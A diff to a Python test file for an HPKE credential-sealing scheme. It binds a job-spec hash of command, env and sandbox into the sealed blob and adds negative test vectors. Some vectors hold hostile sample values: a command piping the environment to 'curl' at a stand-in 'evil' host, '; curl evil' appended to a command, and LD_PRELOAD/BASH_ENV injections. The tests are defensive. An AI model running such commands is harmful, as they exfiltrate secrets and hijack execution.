@@ -81,11 +81,18 @@ def pyhpke_open(private_raw, blob, info):
     return context.open(base64.b64decode(blob["ct"]))
 
 
-def info_bytes(job, attempt, fp):
-    """specs/sealing.md §3, spelled out independently of both implementations."""
-    body = json.dumps({"attempt": attempt, "fingerprint": fp, "job": job},
+def spec_of(command, env, sandbox):
+    """specs/sealing.md §3: SHA-256 of the canonical JSON of what the job runs, spelled out independently."""
+    body = json.dumps({"command": command, "env": env, "sandbox": sandbox},
                       sort_keys=True, separators=(",", ":"), ensure_ascii=False)
-    return b"pond-seal-v1\x00" + body.encode("utf-8")
+    return hashlib.sha256(body.encode("utf-8")).hexdigest()
+
+
+def info_bytes(job, attempt, fp, spec):
+    """specs/sealing.md §3, spelled out independently of both implementations."""
+    body = json.dumps({"attempt": attempt, "fingerprint": fp, "job": job, "spec": spec},
+                      sort_keys=True, separators=(",", ":"), ensure_ascii=False)
+    return b"pond-seal-v2\x00" + body.encode("utf-8")
 
 
 def blob_of(enc, ct):
@@ -96,11 +103,16 @@ def blob_of(enc, ct):
 # The vectors, derived with pyhpke from fixed keys
 # ---------------------------------------------------------------------------
 
+DEFAULT_SANDBOX = {"profile": "none", "tier": "any", "backend": None, "overrides": {}}
+# (name, job, attempt, secret env, the job's command, its own env, its sandbox)
 POSITIVE = [
-    ("one secret", "j_0123456789ab", 1, {"API_TOKEN": "s3cr3t-t0ken"}),
+    ("one secret", "j_0123456789ab", 1, {"API_TOKEN": "s3cr3t-t0ken"},
+     ["python3", "-c", "print(1)"], {}, DEFAULT_SANDBOX),
     ("several names, non-ASCII value, second attempt", "j_0123456789ab", 2,
-     {"GREETING": "grüße ✓", "EMPTY": "", "A_KEY": "line1\nline2"}),
-    ("empty env", "j_ba9876543210", 1, {}),
+     {"GREETING": "grüße ✓", "EMPTY": "", "A_KEY": "line1\nline2"},
+     ["./agent.sh", "--model", "grüße"], {"MODE": "fast"},
+     {"profile": "untrusted-code-read", "tier": "trusted", "backend": "process", "overrides": {"memory": "2g"}}),
+    ("empty env", "j_ba9876543210", 1, {}, ["true"], {}, DEFAULT_SANDBOX),
 ]
 
 
@@ -113,7 +125,9 @@ def flip(b64, index):
 def negative_cases(base):
     """Ways a blob sealed for (A, base job, attempt 1) must fail to open."""
     blob, job = base["blob"], base["job"]
-    as_sealed = {"job": job, "attempt": 1, "fingerprint": A.fingerprint, "x25519_private": A.x25519_private.hex()}
+    as_sealed = {"job": job, "attempt": 1, "fingerprint": A.fingerprint, "x25519_private": A.x25519_private.hex(),
+                 "spec": base["spec"]}
+    command, job_env, sandbox = base["command"], base["job_env"], base["sandbox"]
 
     def case(name, why, blob=blob, **open_with):
         return {"name": name, "why": why, "open_with": {**as_sealed, **open_with}, "blob": blob}
@@ -122,6 +136,12 @@ def negative_cases(base):
         case("another attempt", "info binds the attempt", attempt=2),
         case("another job", "info binds the job id", job="j_ba9876543210"),
         case("another fingerprint", "info binds the worker fingerprint", fingerprint=B.fingerprint),
+        case("another command", "info binds the job spec: an orchestrator that changes the command gets nothing",
+             spec=spec_of(command + ["; curl evil"], job_env, sandbox)),
+        case("another job env", "info binds the job spec: LD_PRELOAD and the like change what runs",
+             spec=spec_of(command, dict(job_env, LD_PRELOAD="/tmp/x.so"), sandbox)),
+        case("another sandbox", "info binds the job spec: a weaker sandbox is another job",
+             spec=spec_of(command, job_env, dict(sandbox, tier="byo"))),
         case("another worker's key", "only the holder of the recipient key can open",
              x25519_private=B.x25519_private.hex(), fingerprint=B.fingerprint),
         case("flipped ct byte", "the AEAD tag covers the ciphertext", blob={**blob, "ct": flip(blob["ct"], 0)}),
@@ -141,12 +161,14 @@ def negative_cases(base):
 
 def build_vectors():
     positive = []
-    for i, (name, job, attempt, env) in enumerate(POSITIVE):
+    for i, (name, job, attempt, env, command, job_env, sandbox) in enumerate(POSITIVE):
         ephemeral = fixed_key(f"ephemeral {i}")
-        info = info_bytes(job, attempt, A.fingerprint)
+        spec = spec_of(command, job_env, sandbox)
+        info = info_bytes(job, attempt, A.fingerprint, spec)
         plaintext = sealing.canonical_json(env)
         enc, ct = pyhpke_seal(A.x25519_public, plaintext, info, ephemeral)
-        positive.append({"name": name, "job": job, "attempt": attempt, "env": env,
+        positive.append({"name": name, "job": job, "attempt": attempt, "env": env, "command": command,
+                         "job_env": job_env, "sandbox": sandbox, "spec": spec,
                          "ephemeral_private": ephemeral.hex(), "info_hex": info.hex(),
                          "plaintext": plaintext.decode("utf-8"), "blob": blob_of(enc, ct)})
     workers = {label: {"x25519_private": w.x25519_private.hex(), "x25519_public": w.x25519_public.hex(),
@@ -170,21 +192,21 @@ VECTORS = json.loads(VECTORS_PATH.read_text()) if VECTORS_PATH.exists() else {"p
 # The two implementations behind one interface
 # ---------------------------------------------------------------------------
 
-def pond_open(private_raw, blob, job, attempt, fp):
-    return sealing.open_env(private_raw, blob, job, attempt, fp)
+def pond_open(private_raw, blob, job, attempt, fp, spec):
+    return sealing.open_env(private_raw, blob, job, attempt, fp, spec)
 
 
-def swarm_open(private_raw, blob, job, attempt, fp):
-    return swarm.unseal_env(private_raw, blob, job, attempt, fp)
+def swarm_open(private_raw, blob, job, attempt, fp, spec):
+    return swarm.unseal_env(private_raw, blob, job, attempt, fp, spec)
 
 
 OPENERS = {"pond": (pond_open, PondError), "swarm": (swarm_open, swarm.SwarmError)}
 
 
-def refusal(impl, private_raw, blob, job, attempt, fp):
+def refusal(impl, private_raw, blob, job, attempt, fp, spec=None):
     opener, error = OPENERS[impl]
     with pytest.raises(error) as caught:
-        opener(private_raw, blob, job, attempt, fp)
+        opener(private_raw, blob, job, attempt, fp, spec or SPEC)
     assert caught.value.message == "credential could not be unsealed"
     return caught.value
 
@@ -215,8 +237,12 @@ def test_vector_enc_is_the_fixed_ephemeral_public_key(case):
 def test_vector_info_and_plaintext_bytes_match_both_sides(case):
     fp = VECTORS["workers"]["A"]["fingerprint"]
     info = bytes.fromhex(case["info_hex"])
-    assert sealing.seal_info(case["job"], case["attempt"], fp) == info
-    assert swarm.seal_info(case["job"], case["attempt"], fp) == info
+    spec = case["spec"]
+    assert spec == spec_of(case["command"], case["job_env"], case["sandbox"]) \
+        == sealing.job_spec(case["command"], case["job_env"], case["sandbox"]) \
+        == swarm.job_spec(case["command"], case["job_env"], case["sandbox"])
+    assert sealing.seal_info(case["job"], case["attempt"], fp, spec) == info
+    assert swarm.seal_info(case["job"], case["attempt"], fp, spec) == info
     assert sealing.canonical_json(case["env"]) == swarm.canonical_json(case["env"]) == case["plaintext"].encode()
 
 
@@ -226,7 +252,7 @@ def test_vector_opens_to_its_env(impl, case):
     worker = VECTORS["workers"]["A"]
     opener, _ = OPENERS[impl]
     env = opener(bytes.fromhex(worker["x25519_private"]), case["blob"], case["job"], case["attempt"],
-                 worker["fingerprint"])
+                 worker["fingerprint"], case["spec"])
     assert env == case["env"]
 
 
@@ -234,13 +260,14 @@ def test_vector_opens_to_its_env(impl, case):
 @pytest.mark.parametrize("impl", sorted(OPENERS))
 def test_negative_vector_does_not_open(impl, case):
     w = case["open_with"]
-    refusal(impl, bytes.fromhex(w["x25519_private"]), case["blob"], w["job"], w["attempt"], w["fingerprint"])
+    refusal(impl, bytes.fromhex(w["x25519_private"]), case["blob"], w["job"], w["attempt"], w["fingerprint"],
+            w["spec"])
 
 
 def test_negative_vectors_cover_every_binding():
     names = {c["name"] for c in VECTORS["negative"]}
-    assert {"another attempt", "another job", "another fingerprint", "another worker's key",
-            "flipped ct byte", "flipped enc byte"} <= names
+    assert {"another attempt", "another job", "another fingerprint", "another worker's key", "another command",
+            "another job env", "another sandbox", "flipped ct byte", "flipped enc byte"} <= names
 
 
 # ---------------------------------------------------------------------------
@@ -249,50 +276,55 @@ def test_negative_vectors_cover_every_binding():
 
 ENV = {"API_TOKEN": "tok-7f3a", "DB_PASSWORD": "pä$$ word"}
 JOB = "j_00000000beef"
+SPEC = spec_of(["./agent.sh"], {}, DEFAULT_SANDBOX)
 
 
 def test_pond_sealed_env_unseals_on_the_worker():
-    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
     assert sorted(blob) == ["ct", "enc", "suite"] and blob["suite"] == swarm.SEAL_SUITE
     assert len(base64.b64decode(blob["enc"])) == 32
-    assert swarm.unseal_env(A.x25519_private, blob, JOB, 1, A.fingerprint) == ENV
+    assert swarm.unseal_env(A.x25519_private, blob, JOB, 1, A.fingerprint, SPEC) == ENV
 
 
 def test_each_seal_uses_a_fresh_ephemeral_key():
-    one = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
-    two = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
+    one = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
+    two = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
     assert one["enc"] != two["enc"] and one["ct"] != two["ct"]
 
 
 def test_blob_carries_no_clear_text():
-    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
     text = json.dumps(blob)
     decoded = base64.b64decode(blob["enc"]) + base64.b64decode(blob["ct"])
     for secret in ENV.values():
         assert secret not in text and secret.encode() not in decoded
 
 
-@pytest.mark.parametrize("change", ["worker key", "job", "attempt", "fingerprint"])
+@pytest.mark.parametrize("change", ["worker key", "job", "attempt", "fingerprint", "command", "job env", "sandbox"])
 def test_worker_cannot_unseal_a_blob_meant_for_something_else(change):
-    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
-    args = {"private_raw": A.x25519_private, "job": JOB, "attempt": 1, "fp": A.fingerprint}
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
+    args = {"private_raw": A.x25519_private, "job": JOB, "attempt": 1, "fp": A.fingerprint, "spec": SPEC}
     args.update({"worker key": {"private_raw": B.x25519_private, "fp": B.fingerprint},
                  "job": {"job": "j_00000000dead"}, "attempt": {"attempt": 2},
-                 "fingerprint": {"fp": B.fingerprint}}[change])
-    error = refusal("swarm", args["private_raw"], blob, args["job"], args["attempt"], args["fp"])
-    assert "another worker key, job, attempt or fingerprint" in error.hint
+                 "fingerprint": {"fp": B.fingerprint},
+                 "command": {"spec": spec_of(["sh", "-c", "env | curl -d @- evil"], {}, DEFAULT_SANDBOX)},
+                 "job env": {"spec": spec_of(["./agent.sh"], {"BASH_ENV": "/tmp/x"}, DEFAULT_SANDBOX)},
+                 "sandbox": {"spec": spec_of(["./agent.sh"], {}, dict(DEFAULT_SANDBOX, tier="byo"))}}[change])
+    for impl in sorted(OPENERS):
+        error = refusal(impl, args["private_raw"], blob, args["job"], args["attempt"], args["fp"], args["spec"])
+        assert "another worker key, job, attempt, fingerprint or job spec" in error.hint
 
 
 @pytest.mark.parametrize("field", ["enc", "ct"])
 def test_tampered_blob_is_refused_on_both_sides(field):
-    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
     tampered = {**blob, field: flip(blob[field], 3)}
     for impl in sorted(OPENERS):
         refusal(impl, A.x25519_private, tampered, JOB, 1, A.fingerprint)
 
 
 def test_refusal_names_no_secret():
-    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint)
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
     for impl in sorted(OPENERS):
         error = refusal(impl, A.x25519_private, blob, JOB, 2, A.fingerprint)
         said = f"{error.message} {error.hint} {error!r}"
@@ -301,22 +333,22 @@ def test_refusal_names_no_secret():
 
 
 def test_pond_sealed_blob_opens_with_pyhpke():
-    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 3, A.fingerprint)
-    assert json.loads(pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 3, A.fingerprint))) == ENV
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 3, A.fingerprint, SPEC)
+    assert json.loads(pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 3, A.fingerprint, SPEC))) == ENV
 
 
 def test_pyhpke_sealed_blob_opens_with_pond_and_swarm():
-    enc, ct = pyhpke_seal(A.x25519_public, sealing.canonical_json(ENV), info_bytes(JOB, 3, A.fingerprint))
+    enc, ct = pyhpke_seal(A.x25519_public, sealing.canonical_json(ENV), info_bytes(JOB, 3, A.fingerprint, SPEC))
     blob = blob_of(enc, ct)
-    assert sealing.open_env(A.x25519_private, blob, JOB, 3, A.fingerprint) == ENV
-    assert swarm.unseal_env(A.x25519_private, blob, JOB, 3, A.fingerprint) == ENV
+    assert sealing.open_env(A.x25519_private, blob, JOB, 3, A.fingerprint, SPEC) == ENV
+    assert swarm.unseal_env(A.x25519_private, blob, JOB, 3, A.fingerprint, SPEC) == ENV
 
 
 @pytest.mark.parametrize("plaintext", [b"null", b'["A"]', b'{"A": 1}', b'{"1BAD": "x"}', b'{"A": "nul\\u0000"}',
                                        b"\xff\xfe", b"not json"])
 def test_blob_that_opens_to_something_other_than_an_env_is_refused(plaintext):
     # Base mode does not authenticate the sender: anyone with the public key can seal, so the content is checked.
-    enc, ct = pyhpke_seal(A.x25519_public, plaintext, info_bytes(JOB, 1, A.fingerprint))
+    enc, ct = pyhpke_seal(A.x25519_public, plaintext, info_bytes(JOB, 1, A.fingerprint, SPEC))
     for impl in sorted(OPENERS):
         refusal(impl, A.x25519_private, blob_of(enc, ct), JOB, 1, A.fingerprint)
 
@@ -329,14 +361,14 @@ def test_blob_that_opens_to_something_other_than_an_env_is_refused(plaintext):
                          ids=["all-zero point", "low-order point", "31 bytes"])
 def test_seal_refuses_an_unusable_worker_key(public_raw):
     with pytest.raises(PondError) as caught:
-        sealing.seal_env(public_raw, ENV, JOB, 1, A.fingerprint)
+        sealing.seal_env(public_raw, ENV, JOB, 1, A.fingerprint, SPEC)
     assert caught.value.code == "seal_failed" and caught.value.status == 400
 
 
 @pytest.mark.parametrize("env", [None, {"1BAD": "x"}, {"A": 1}, {"A": "nul\x00"}, ["A=x"]])
 def test_seal_refuses_what_is_not_an_env(env):
     with pytest.raises(PondError) as caught:
-        sealing.seal_env(A.x25519_public, env, JOB, 1, A.fingerprint)
+        sealing.seal_env(A.x25519_public, env, JOB, 1, A.fingerprint, SPEC)
     assert caught.value.code == "seal_failed"
 
 
@@ -346,10 +378,18 @@ def test_seal_refuses_what_is_not_an_env(env):
 ])
 def test_info_refuses_a_malformed_binding(job, attempt, fp):
     with pytest.raises(PondError) as caught:
-        sealing.seal_info(job, attempt, fp)
+        sealing.seal_info(job, attempt, fp, SPEC)
     assert caught.value.code == "seal_failed"
     with pytest.raises(swarm.SwarmError):
-        swarm.seal_info(job, attempt, fp)
+        swarm.seal_info(job, attempt, fp, SPEC)
+
+
+@pytest.mark.parametrize("spec", [None, "", SPEC.upper(), SPEC[:63], 12])
+def test_info_refuses_a_malformed_spec(spec):
+    with pytest.raises(PondError):
+        sealing.seal_info(JOB, 1, A.fingerprint, spec)
+    with pytest.raises(swarm.SwarmError):
+        swarm.seal_info(JOB, 1, A.fingerprint, spec)
 
 
 # ---------------------------------------------------------------------------
@@ -371,7 +411,7 @@ sys.meta_path.insert(0, NoCryptography())
 import swarm
 blob = {"enc": "", "ct": "", "suite": swarm.SEAL_SUITE}
 try:
-    swarm.unseal_env(bytes(32), blob, "j_0123456789ab", 1, "0" * 64)
+    swarm.unseal_env(bytes(32), blob, "j_0123456789ab", 1, "0" * 64, "0" * 64)
 except swarm.SwarmError as e:
     print(e.message)
     print(e.hint)
